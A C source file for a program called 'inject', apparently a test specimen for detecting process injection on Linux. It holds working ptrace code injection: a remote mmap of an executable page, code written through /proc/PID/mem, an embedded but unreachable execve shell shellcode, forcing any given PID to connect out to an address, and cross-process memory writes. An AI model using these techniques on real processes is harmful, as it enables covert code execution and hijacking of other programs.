// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * inject: put code into another process, as an attacker with ptrace does.
 *
 * A victim that only sleeps is made; ptrace stops it, makes it call mmap for a page that may be
 * written and executed, copies position-independent code there through /proc/PID/mem and lets the
 * victim go on in it. The code counts and sleeps for ever; behind that stands, never reached, the
 * well-known sequence that starts a shell.
 *
 * usage: inject                    prints "inject victim=PID address=VA" once the code has run, and
 *                                  stays
 *        inject PID ADDRESS PORT   makes a process that waits in a system call connect to there,
 * and send something; prints "inject victim=PID socket=FD"
 *        inject memory A B
 *                                  writes into the stack of process A, by process_vm_writev and
 *                                  /proc/A/mem, and reads that of B in the same two ways; prints
 *                                  "inject written=A read=B"
 *        inject traced FILE        makes a child that asks to be traced, and changes what it writes
 *                                  into the file then; prints "inject traced=PID by=PID"
 */
#include "specimen.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>

#define PAGE 4096

__asm__(".section .rodata\n"
	"code:\n"
	"1:	incl counter(%rip)\n"
	"	mov $35, %eax\n" /* nanosleep */
	"	lea period(%rip), %rdi\n"
	"	xor %esi, %esi\n"
	"	syscall\n"
	"	jmp 1b\n"
	/* execve("/bin//sh"), never reached */
	"	xor %edx, %edx\n"
	"	push %rdx\n"
	"	movabs $0x68732f2f6e69622f, %rbx\n"
	"	push %rbx\n"
	"	mov %rsp, %rdi\n"
	"	push %rdx\n"
	"	push %rdi\n"
	"	mov %rsp, %rsi\n"
	"	push $59\n"
	"	pop %rax\n"
	"	syscall\n"
	"	.balign 8\n"
	"period: .quad 0, 100000000\n"
	"counter: .long 0\n"
	"code_end:\n"
	".previous\n");
extern const uint8_t code[], counter[], code_end[];

static void wait_stopped(pid_t pid)
{
	int status;

	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
		fail("the victim did not stop");
}

/* Make the stopped victim execute a system call at rip; its registers are put back after it. */
static uint64_t remote_call(pid_t pid, uint64_t rip, const uint64_t call[7], const char *what)
{
	struct user_regs_struct old, regs;

	if (ptrace(PTRACE_GETREGS, pid, NULL, &old))
		fail("PTRACE_GETREGS");
	regs = old;
	regs.rip = rip;
	regs.rax = call[0];
	regs.orig_rax = (unsigned long long)-1;
	regs.rdi = call[1];
	regs.rsi = call[2];
	regs.rdx = call[3];
	regs.r10 = call[4];
	regs.r8 = call[5];
	regs.r9 = call[6];
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL))
		fail("single step");
	wait_stopped(pid);
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) || ptrace(PTRACE_SETREGS, pid, NULL, &old))
		fail("registers");
	if (regs.rax > -4096ull) {
		errno = (int)-regs.rax;
		fail(what);
	}
	return regs.rax;
}

static uint64_t remote_mmap(pid_t pid, uint64_t rip)
{
	const uint64_t call[7] = {
	    SYS_mmap,     0, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
	    (uint64_t)-1, 0};

	return remote_call(pid, rip, call, "mmap in the victim");
}

/* A syscall instruction that the victim has anyway. */
__asm__(".text\nsyscall_here: syscall\n");
extern const uint8_t syscall_here[];

static void inject(pid_t pid, uint64_t *address)
{
	struct user_regs_struct regs;
	char path[32];
	int fd;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
		fail("PTRACE_ATTACH");
	wait_stopped(pid);
	*address = remote_mmap(pid, (uint64_t)(uintptr_t)syscall_here);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0 || pwrite(fd, code, (size_t)(code_end - code), (off_t)*address) !=
			  (ssize_t)(code_end - code))
		fail(path);
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs))
		fail("PTRACE_GETREGS");
	regs.rip = *address;
	regs.orig_rax = (unsigned long long)-1; /* no system call to restart */
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) || ptrace(PTRACE_DETACH, pid, NULL, NULL))
		fail("PTRACE_DETACH");
	for (uint32_t count = 0, i = 0; !count; i++) {
		struct timespec pause = {.tv_nsec = 20000000};

		nanosleep(&pause, NULL);
		if (i == 500 || pread(fd, &count, sizeof(count),
				      (off_t)(*address + (uint64_t)(counter - code))) != 4)
			fail("the injected code does not run");
	}
	close(fd);
}

/* From the system call that it waits in, with the address on its stack. */
static void connect_from(pid_t pid, const char *address, const char *port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	struct user_regs_struct regs;
	uint64_t at, here, fd, words[2];

	if (inet_pton(AF_INET, address, &to.sin_addr) != 1)
		fail(address);
	memcpy(words, &to, sizeof(words));
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
		fail("PTRACE_ATTACH");
	wait_stopped(pid);
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs))
		fail("PTRACE_GETREGS");
	here = regs.rip - 2; /* SYSCALL has two bytes */
	at = (regs.rsp - 512) & ~(uint64_t)15;
	for (uint64_t i = 0; i < 2; i++)
		if (ptrace(PTRACE_POKEDATA, pid, at + i * 8, words[i]))
			fail("PTRACE_POKEDATA");
	fd = remote_call(pid, here, (uint64_t[7]){SYS_socket, AF_INET, SOCK_STREAM}, "socket");
	remote_call(pid, here, (uint64_t[7]){SYS_connect, fd, at, sizeof(to)}, "connect");
	remote_call(pid, here, (uint64_t[7]){SYS_write, fd, at, sizeof(to)}, "write");
	if (ptrace(PTRACE_DETACH, pid, NULL, NULL))
		fail("PTRACE_DETACH");
	printf("inject victim=%d socket=%lu\n", pid, (unsigned long)fd);
}

/* The lowest page of its stack that there is, which nothing uses. */
static uint64_t stack_of(const char *pid)
{
	char path[64], line[256];
	uint64_t start = 0;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%s/maps", pid);
	maps = fopen(path, "r");
	while (maps && fgets(line, sizeof(line), maps))
		if (strstr(line, "[stack]"))
			start = strtoull(line, NULL, 16);
	if (!start)
		fail(path);
	fclose(maps);
	return start;
}

static void use_memory(const char *pid, bool writes)
{
	uint64_t at = stack_of(pid), word = 0;
	struct iovec here = {&word, sizeof(word)}, there = {(void *)at, sizeof(word)}; // NOLINT
	char path[64];
	ssize_t done;
	int fd;

	done = writes ? process_vm_writev(atoi(pid), &here, 1, &there, 1, 0)
		      : process_vm_readv(atoi(pid), &here, 1, &there, 1, 0);
	if (done != sizeof(word))
		fail("its memory");
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, (writes ? O_WRONLY : O_RDONLY) | O_CLOEXEC);
	done = writes ? pwrite(fd, &word, sizeof(word), (off_t)at)
		      : pread(fd, &word, sizeof(word), (off_t)at);
	if (done != sizeof(word) || close(fd))
		fail(path);
}

static volatile uint64_t text;

static void write_traced(const char *path)
{
	uint64_t word;
	int fd;

	if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) || raise(SIGSTOP))
		fail("PTRACE_TRACEME");
	word = text;
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, &word, sizeof(word)) != sizeof(word) || close(fd))
		fail(path);
	/* Whose calls they were is read while it is there. */
	usleep(30000);
	_exit(0);
}

static void trace_child(const char *path)
{
	pid_t pid = fork();
	int status;

	if (pid < 0)
		fail("fork");
	if (!pid)
		write_traced(path);
	wait_stopped(pid);
	if (ptrace(PTRACE_POKEDATA, pid, &text, 0x6465636172740a2aul) ||
	    ptrace(PTRACE_DETACH, pid, NULL, NULL))
		fail("PTRACE_POKEDATA");
	if (waitpid(pid, &status, 0) != pid || status)
		fail("the traced child");
	printf("inject traced=%d by=%d\n", pid, getpid());
}

int main(int argc, char **argv)
{
	int told[2];
	uint64_t address;
	char none;
	pid_t pid;

	if (argc == 4 && !strcmp(argv[1], "memory")) {
		use_memory(argv[2], true);
		use_memory(argv[3], false);
		printf("inject written=%s read=%s\n", argv[2], argv[3]);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "traced")) {
		trace_child(argv[2]);
		return 0;
	}
	if (argc == 4) {
		connect_from(atoi(argv[1]), argv[2], argv[3]);
		return 0;
	}
	if (pipe2(told, O_CLOEXEC))
		fail("pipe");
	pid = fork();
	if (pid < 0)
		fail("fork");
	if (!pid) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		close(told[0]);
		close(told[1]);
		for (;;)
			pause();
	}
	/* Stopped before that, it would never come to it, and outlive this process. */
	close(told[1]);
	if (read(told[0], &none, 1))
		fail("waiting for the victim");
	close(told[0]);
	inject(pid, &address);
	printf("inject victim=%d address=0x%lx\n", pid, (unsigned long)address);
	stay();
}
